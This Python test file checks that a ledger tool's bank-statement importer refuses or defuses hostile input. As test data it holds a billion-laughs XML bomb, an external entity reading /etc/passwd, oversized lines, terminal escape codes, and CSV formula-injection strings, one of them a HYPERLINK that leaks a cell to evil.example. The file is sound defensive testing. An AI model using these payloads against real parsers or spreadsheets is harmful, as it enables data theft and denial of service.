"""Statements from outside are hostile until checked (issue 18): each attack is one line, exit 1, nothing written.

Also the CSV dialects a bank may send: signs, D/C marks, debit and credit
columns, byte-order marks, any Unicode space between thousands.
"""

from __future__ import annotations

import csv
import json
import time
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ledger import importer
from ledger.errors import BadInput
from ledger.statements import csvfile, show

from conftest import snapshot

EXAMPLES = Path(__file__).resolve().parent.parent / "ledgers" / "examples"
CAMT = (EXAMPLES / "camt053-statement.xml").read_text()
MT940 = (EXAMPLES / "mt940-statement.sta").read_text()
FIFTY_MB = 50 * 1024 * 1024
CSV_MAP = """
[columns]
date = "Date"
member = "Payer"
amount = "Amount"
reference = "Ref"
memo = "Text"
"""


@pytest.fixture
def fund(run):
    run("member join Latvia --date 2024-02-01")
    run("contribute Latvia 1000 --date 2024-03-01")
    return run


def refused_in_one_line(run, command: str, prefix: str = "error: ") -> str:
    before = snapshot(run.path)
    result = run(command, ok=False)
    lines = result.stderr.strip().splitlines()
    assert result.exit_code == 1, result.output
    assert len(lines) == 1 and lines[0].startswith(prefix), result.stderr
    assert "Traceback" not in result.output
    assert snapshot(run.path) == before
    return lines[0]


class TestHostileXml:
    """defusedxml refuses any DTD, so neither entity expansion nor an external entity can happen."""

    BILLION_LAUGHS = (
        '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(
            f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10)
        )
        + "]>\n<Document>&lol9;</Document>\n"
    )
    EXTERNAL = (
        '<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<Document>&x;</Document>\n'
    )

    @pytest.mark.parametrize("text", [BILLION_LAUGHS, EXTERNAL], ids=["entity-expansion", "external-entity"])
    def test_a_dtd_is_refused(self, fund, tmp_path, text):
        (tmp_path / "evil.xml").write_text(text)
        line = refused_in_one_line(fund, f"import {tmp_path / 'evil.xml'} --dry-run")
        assert line.endswith("XML with a document type declaration (DTD) is refused: it can expand entities")

    def test_external_entity_in_a_real_statement_is_refused(self, fund, tmp_path):
        text = CAMT.replace(
            "<Document", '<!DOCTYPE Document [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]>\n<Document', 1
        )
        (tmp_path / "s.xml").write_text(text.replace("Drone coalition contribution Q1", "&x;"))
        assert "(DTD) is refused" in refused_in_one_line(fund, f"import {tmp_path / 's.xml'}")

    @pytest.mark.parametrize(
        ("text", "message"),
        [
            ("<html><body/></html>", "is XML but not an ISO 20022 camt.052, camt.053 or camt.054 statement"),
            ("<Document><BkToCstmrStmt>", "is not well-formed XML"),
            ('<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt/></Document>',
             "the camt.053 message holds no Stmt"),
        ],
    )  # fmt: skip
    def test_xml_that_is_no_statement(self, fund, tmp_path, text, message):
        (tmp_path / "s.xml").write_text(text)
        assert message in refused_in_one_line(fund, f"import {tmp_path / 's.xml'}")

    @pytest.mark.parametrize("amount", ["NaN", "1E+9", "-5.00", "abc"])
    def test_amounts_that_are_not_plain_decimals_refuse_their_row(self, fund, tmp_path, amount):
        (tmp_path / "s.xml").write_text(
            CAMT.replace('<Amt Ccy="EUR">250000.00</Amt>', f'<Amt Ccy="EUR">{amount}</Amt>')
        )
        result = fund(f"import {tmp_path / 's.xml'} --dry-run --json", ok=False)
        assert result.exit_code == 1
        row = json.loads(result.stdout)["rows"][1]
        assert row["status"] == "refused" and "entry amount" in row["reason"]


class TestHugeLines:
    """A 50 MB line (generated here, never committed) is refused in one line, quickly, in every format."""

    @pytest.fixture(scope="class")
    @staticmethod
    def huge(tmp_path_factory):
        folder = tmp_path_factory.mktemp("huge")
        filler = "A" * FIFTY_MB
        (folder / "s.csv").write_text(f"Date,Payer,Amount,Ref,Text\n2025-03-01,Latvia,1.00,R1,{filler}\n")
        (folder / "s.sta").write_text(MT940.replace("Drone coalition contribution Q1", filler))
        (folder / "s.xml").write_text(CAMT.replace("Drone coalition contribution Q1", filler))
        (folder / "m.toml").write_text(CSV_MAP)
        return folder

    @pytest.mark.parametrize(
        ("name", "message"),
        [
            ("s.csv", "line 2 is 52,428,826 bytes long; lines longer than 65,536 are refused"),
            ("s.sta", "line 6 is 52,428,832 bytes long; lines longer than 65,536 are refused"),
        ],
    )
    def test_a_huge_line(self, fund, huge, name, message):
        started = time.perf_counter()
        line = refused_in_one_line(fund, f"import {huge / name} --map {huge / 'm.toml'}")
        assert line.endswith(message)
        assert time.perf_counter() - started < 10

    def test_a_camt_file_too_large_for_memory_is_refused(self, fund, huge, monkeypatch):
        monkeypatch.setattr("ledger.statements.MAX_XML_BYTES", 1024 * 1024)
        line = refused_in_one_line(fund, f"import {huge / 's.xml'}")
        assert line.endswith("bytes of XML; a camt file larger than 1,048,576 bytes is refused (ask the bank for one "
                             "statement a day)")  # fmt: skip

    def test_a_huge_xml_field_refuses_its_row(self, fund, huge):
        result = fund(f"import {huge / 's.xml'} --dry-run --json", ok=False)
        assert result.exit_code == 1
        row = json.loads(result.stdout)["rows"][0]
        assert row["reason"] == "remittance text is 52,428,800 characters long; fields longer than 4,096 are refused"


class TestTextFromTheStatement:
    def test_invalid_utf8_is_named_by_its_line(self, fund, tmp_path):
        (tmp_path / "m.toml").write_text(CSV_MAP)
        (tmp_path / "s.csv").write_bytes(
            b"Date,Payer,Amount,Ref,Text\n2025-03-01,Latvia,1.00,R1,ok\n2025-03-02,Lat\xffvia,1,R2,x\n"
        )
        line = refused_in_one_line(fund, f"import {tmp_path / 's.csv'} --map {tmp_path / 'm.toml'}")
        assert line.endswith("is not valid utf-8: byte b'\\xff' on line 3; give the file's encoding in the mapping "
                             '(encoding = "cp1252")')  # fmt: skip
        (tmp_path / "s.sta").write_bytes(MT940.encode().replace(b"Drone coalition", b"Drone \xc3\x28 coalition"))
        assert "is not valid utf-8: byte b'\\xc3' on line 6" in refused_in_one_line(
            fund, f"import {tmp_path / 's.sta'}"
        )

    def test_formula_text_stays_text_and_the_unmatched_csv_is_safe_in_a_spreadsheet(self, fund, tmp_path):
        (tmp_path / "m.toml").write_text(CSV_MAP)
        (tmp_path / "s.csv").write_text(
            "Date,Payer,Amount,Ref,Text\n"
            "2025-03-01,Latvia,10.00,=1+1,@SUM(A1:A9)\n"
            '2025-03-02,"=HYPERLINK(""http://evil.example"",""click"")",-25.50,+R2,"-2+3"\n'
            "2025-03-03,\tTab,-1.00,\rR3,x\n"
        )
        result = fund(
            f"import {tmp_path / 's.csv'} --map {tmp_path / 'm.toml'} --record-matched --unmatched {tmp_path / 'u.csv'}"
        )
        assert result.stdout.splitlines()[0].startswith("Recorded 1 entries")
        entry = fund.json("report register --kind contribute")
        assert "=1+1" in json.dumps(entry)  # kept exactly as the bank wrote it, in the journal
        with open(tmp_path / "u.csv", encoding="utf-8", newline="") as handle:
            rows = list(csv.reader(handle))
        assert rows[0] == list(show.UNMATCHED_COLUMNS)
        assert rows[1][3] == "25.50" and rows[1][2] == "debit"  # the amount is never altered
        assert rows[1][5] == '\'=HYPERLINK("http://evil.example","click")'
        assert rows[1][6] == "'+R2" and rows[1][7] == "'-2+3"
        assert rows[2][5] == "Tab" or rows[2][5].startswith("'")
        for row in rows[1:]:
            for cell in (row[5], row[6], row[7], row[8]):
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell

    def test_escape_sequences_reach_the_terminal_inert(self, fund, tmp_path):
        (tmp_path / "m.toml").write_text(CSV_MAP)
        (tmp_path / "s.csv").write_text("Date,Payer,Amount,Ref,Text\n2025-03-01,\x1b[31mEVIL\x1b[0m,-1.00,R1,x\n")
        result = fund(f"import {tmp_path / 's.csv'} --map {tmp_path / 'm.toml'} --dry-run", ok=False)
        assert "\x1b" not in result.output and "\\e[31mEVIL" in result.stdout

    @pytest.mark.parametrize("text", [":20:X\n:61:garbage\n-\n", ":20:STMT\n:25:X\n:60F:Q250228EUR1,00\n-\n"])
    def test_mt940_the_parser_cannot_read(self, fund, tmp_path, text):
        (tmp_path / "s.sta").write_text(text)
        result = fund(f"import {tmp_path / 's.sta'} --dry-run", ok=False)
        assert result.exit_code == 1 and len(result.stderr.strip().splitlines()) == 1
        assert "Traceback" not in result.output

    def test_csv_without_a_mapping_says_what_is_needed(self, fund, tmp_path):
        (tmp_path / "s.csv").write_text("a,b\n1,2\n")
        line = refused_in_one_line(fund, f"import {tmp_path / 's.csv'}")
        assert line.endswith("is neither camt XML nor MT940; to read it as CSV, give a mapping with [columns] "
                             "(--map FILE, docs/IMPORT.md)")  # fmt: skip


BAD_MAPPINGS = [
    ('[extract]\nmember = "("\n' + CSV_MAP + 'description = "Text"\n', "[extract] member '(' is not a regular expression"),
    ('[extract]\nmember = "(.+)"\n' + CSV_MAP + 'description = "Text"\n', "[extract] member must name what it captures: (?P<member>...)"),
    ('[extract]\npayer = "(?P<payer>.+)"\n' + CSV_MAP, "[extract] takes member and reference, not payer"),
    ('[[rules]]\nmatch = "x"\nkind = "steal"\n', "[[rules]] #1 kind must be one of contribute, pay, charge"),
    ('[[rules]]\nmatch = "x"\nkind = "pay"\n', '[[rules]] #1 pays a package: name it (package = "...")'),
    ('[[rules]]\nmatch = "x"\nkind = "charge"\nwhen = 1\n', "[[rules]] #1 has unknown key(s) when"),
    ('[[rules]]\nmatch = "x"\nkind = "pay"\npackage = "p"\ndirection = "credit"\n',
     "[[rules]] #1 direction of a pay is debit, not 'credit'"),
    ('account = "LV00BANK0000435195001"\n', "account 'LV00BANK0000435195001' is not a valid IBAN"),
    ("reconcile = 1\n", "reconcile is true or false, not 1"),
    ('format = "ofx"\n', "format must be one of csv, camt, mt940, not 'ofx'"),
    ('[skip]\n"Type" = 10\n', "[skip] maps a column to the values of rows to leave out: 'Type'"),
    ('[formats]\ncredit = []\n' + CSV_MAP.replace("[columns]", "[columns]\ndirection = \"DC\""),
     "[formats] credit lists what the direction column writes for it"),
    (CSV_MAP.replace('amount = "Amount"', 'debit = "Out"'), "[columns] debit and credit go together"),
]  # fmt: skip


@pytest.mark.parametrize(("mapping", "message"), BAD_MAPPINGS, ids=[m for _, m in BAD_MAPPINGS])
def test_each_bad_mapping_is_one_line(tmp_path, mapping, message):
    (tmp_path / "m.toml").write_text(mapping)
    with pytest.raises(BadInput) as caught:
        importer.load_mapping(tmp_path / "m.toml")
    assert message in str(caught.value)


def _rows(tmp_path, mapping: str, data: bytes) -> list:
    (tmp_path / "m.toml").write_text(mapping)
    (tmp_path / "s.csv").write_bytes(data)
    return importer.read_statement(tmp_path / "s.csv", importer.load_mapping(tmp_path / "m.toml")).rows


class TestCsvDialects:
    """How banks write money in and out, read exactly."""

    def test_a_signed_amount(self, tmp_path):
        rows = _rows(tmp_path, CSV_MAP, b"Date,Payer,Amount,Ref,Text\n2025-03-01,A,-25.50,R1,x\n2025-03-01,A,+7,R2,x\n")
        assert [(r.credit, r.amount) for r in rows] == [(False, "25.50"), (True, "7")]

    def test_a_trailing_minus_and_a_dc_column(self, tmp_path):
        mapping = (
            CSV_MAP.replace("[columns]", '[columns]\ndirection = "DC"') + '[formats]\ndecimal = ","\nthousands = "."\n'
        )
        data = "Date;Payer;Amount;DC;Ref;Text\n2025-03-01;A;1.000,00;S;R1;x\n2025-03-01;A;2,00;H;R2;x\n2025-03-01;A;3,00;X;R3;x\n"
        rows = _rows(tmp_path, 'delimiter = ";"\n' + mapping, data.encode())
        assert [(r.credit, r.amount) for r in rows[:2]] == [(False, "1000.00"), (True, "2.00")]
        assert rows[2].problem.startswith("direction 'X' is not one of")

    def test_debit_and_credit_columns(self, tmp_path):
        mapping = CSV_MAP.replace('amount = "Amount"', 'debit = "Out"\ncredit = "In"')
        data = b"Date,Payer,Out,In,Ref,Text\n2025-03-01,A,-5.00,,R1,x\n2025-03-01,A,,6.00,R2,x\n2025-03-01,A,1,2,R3,x\n"
        rows = _rows(tmp_path, mapping, data)
        assert [(r.credit, r.amount) for r in rows[:2]] == [(False, "5.00"), (True, "6.00")]
        assert rows[2].problem == "both the debit ('1') and the credit ('2') columns hold an amount"
        rows = _rows(tmp_path, mapping, b"Date,Payer,Out,In,Ref,Text\n2025-03-01,A,,-6.00,R1,x\n")
        assert rows[0].problem == "the credit column holds a negative amount ('-6.00')"

    @pytest.mark.parametrize("space", ["\u00a0", "\u202f", "\u2009", " "], ids=["nbsp", "narrow-nbsp", "thin", "space"])
    def test_any_unicode_space_between_thousands(self, tmp_path, space):
        mapping = 'delimiter = ";"\n' + CSV_MAP + '[formats]\ndecimal = ","\nthousands = "\u00a0"\n'
        data = f"Date;Payer;Amount;Ref;Text\n2025-03-01;A;1{space}234{space}567,89;R1;x\n"
        assert _rows(tmp_path, mapping, data.encode())[0].amount == "1234567.89"

    def test_a_space_the_mapping_does_not_allow_is_refused_clearly(self, tmp_path):
        mapping = 'delimiter = ";"\n' + CSV_MAP + '[formats]\ndecimal = ","\nthousands = "."\n'
        row = _rows(tmp_path, mapping, "Date;Payer;Amount;Ref;Text\n2025-03-01;A;1\u00a0234,00;R1;x\n".encode())[0]
        assert row.problem == (
            "amount '1\\xa0234,00' has a space in it; say thousands = \" \" in the mapping if it groups thousands"
        )

    @pytest.mark.parametrize(
        ("encoding", "bom"), [("utf-8", b"\xef\xbb\xbf"), ("cp1252", b"\xef\xbb\xbf"), ("utf-16", b"")]
    )
    def test_the_bom_is_removed_whatever_the_encoding(self, tmp_path, encoding, bom):
        text = "Date,Payer,Amount,Ref,Text\n2025-03-01,A,1.00,R1,x\n"
        rows = _rows(tmp_path, f'encoding = "{encoding}"\n' + CSV_MAP, bom + text.encode(encoding))
        assert rows[0].day.isoformat() == "2025-03-01" and not rows[0].problem


HOSTILE = EXAMPLES / "hostile"


class TestShippedHostileExamples:
    """The hostile statements under ledgers/examples/hostile/, each refused or defused end to end."""

    @pytest.mark.parametrize("name", ["entity-expansion.xml", "external-entity.xml"])
    def test_xml_with_a_dtd(self, fund, name):
        line = refused_in_one_line(fund, f"import {HOSTILE / name}")
        assert line.endswith("XML with a document type declaration (DTD) is refused: it can expand entities")

    def test_invalid_utf8(self, fund):
        line = refused_in_one_line(fund, f"import {HOSTILE / 'invalid-utf8.csv'} --map {HOSTILE / 'hostile.map.toml'}")
        assert "is not valid utf-8: byte b'\\xff' on line 3" in line

    def test_formula_text(self, fund, tmp_path):
        out = tmp_path / "left.csv"
        command = f"import {HOSTILE / 'formula-text.csv'} --map {HOSTILE / 'hostile.map.toml'} --record-matched"
        result = fund(f"{command} --unmatched {out}")
        assert result.stdout.splitlines()[0] == "Recorded 1 entries (#3-#3); skipped 0 already recorded."
        with open(out, encoding="utf-8", newline="") as handle:
            (row,) = list(csv.DictReader(handle))
        assert row["payer"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")'
        assert (row["amount"], row["direction"], row["reference"], row["memo"]) == ("25.50", "debit", "'+R2", "'-2+3")


@settings(max_examples=200, deadline=None)
@given(
    cents=st.integers(min_value=1, max_value=10**14 - 1),
    style=st.sampled_from(
        [(".", ","), (".", ""), (",", "."), (",", " "), (",", "\u00a0"), (",", "\u202f"), (".", "'"), (".", "\u2009")]
    ),
    out=st.booleans(),
)
def test_any_amount_in_any_style_is_read_exactly(cents, style, out):
    """Whatever the decimal mark and thousands separator, the amount read is the amount written, to the cent."""
    decimal, thousands = style
    whole, fraction = divmod(cents, 100)
    digits = f"{whole:,}".replace(",", "\x00").replace("\x00", thousands)
    text = f"{'-' if out else ''}{digits}{decimal}{fraction:02d}"
    mapping = importer.Mapping(
        columns={"amount": "A"}, decimal=decimal, thousands=" " if thousands.isspace() else thousands
    )
    credit, amount, _ = csvfile._money({"amount": text}, mapping)
    assert (credit, Decimal(amount)) == (not out, Decimal(cents) / 100)
